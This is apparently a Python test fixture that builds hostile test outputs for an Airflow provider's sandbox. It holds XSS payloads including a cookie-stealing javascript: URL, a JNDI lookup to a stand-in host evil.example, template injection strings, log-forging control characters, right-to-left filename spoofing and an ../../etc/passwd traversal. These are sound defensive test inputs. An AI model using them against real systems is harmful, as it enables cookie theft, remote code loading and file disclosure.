"""Remote text as an attacker, or a careless page under test, would write it."""

from __future__ import annotations

from typing import TYPE_CHECKING

from airflow_provider_testerarmy.sandbox.outputs import Json, passed

if TYPE_CHECKING:
    from airflow_provider_testerarmy.sandbox.outputs import RunContext

MARKUP = "<script>alert('xss')</script><img src=x onerror=alert(1)>\"'`&amp;"
TEMPLATE = "{{ var.value.secret }} ${jndi:ldap://evil.example/a} {% raw %} %(asctime)s"
CONTROL = "bell\x07 escape\x1b[31mred\x1b[0m null\x00 backspace\x08 line\r\nforged: log line"
RIGHT_TO_LEFT = "invoice\u202efdp.exe \u200bzero\u2028width\u2066"
MARKDOWN = "| a | b |\n```\n[click](javascript:alert(1)) ]]> <!-- -->"
SCRIPT_URL = "javascript:alert(document.cookie)"
VERY_LONG = "very long text " * 700

NASTY_TEXT = f"{MARKUP} {TEMPLATE} {CONTROL} {RIGHT_TO_LEFT} {MARKDOWN}"

CUT_EMOJI = "Great shop! \ud83d"
"""Text that was cut in the middle of an emoji: half of a surrogate pair, which UTF-8 cannot hold."""


def hostile(context: RunContext) -> Json:
    """Return an output whose every text is hostile, and every address a script."""
    return {
        "featureName": MARKUP + VERY_LONG,
        "result": "FAILED",
        "description": NASTY_TEXT + VERY_LONG,
        "issues": [_issue(context, number) for number in range(3)],
        "screenshots": [
            SCRIPT_URL,
            "data:text/html,<script>alert(1)</script>",
            context.screenshot("../../etc/passwd"),
        ],
        "steps": [
            {
                "stepIndex": index,
                "title": NASTY_TEXT,
                "type": "act",
                "status": "failed",
                "summary": NASTY_TEXT + VERY_LONG,
                "error": CONTROL + VERY_LONG,
                "startedAtMs": -1,
                "completedAtMs": 2**53,
            }
            for index in range(3)
        ],
    }


def _issue(context: RunContext, number: int) -> Json:
    return {
        "type": "issue",
        "name": f"{number} {NASTY_TEXT}",
        "description": NASTY_TEXT + VERY_LONG,
        "url": SCRIPT_URL if number else context.url,
        "severity": 5,
        "reproductionSteps": [NASTY_TEXT, MARKUP, CONTROL, VERY_LONG],
        "expectedBehavior": RIGHT_TO_LEFT + VERY_LONG,
        "actualBehavior": MARKUP + VERY_LONG,
        "screenshotUrl": SCRIPT_URL,
        "tMs": 2**53,
    }


def cut_emoji(context: RunContext) -> Json:
    """Return a passed output in whose texts an emoji was cut in half."""
    return passed(context) | {"description": CUT_EMOJI}
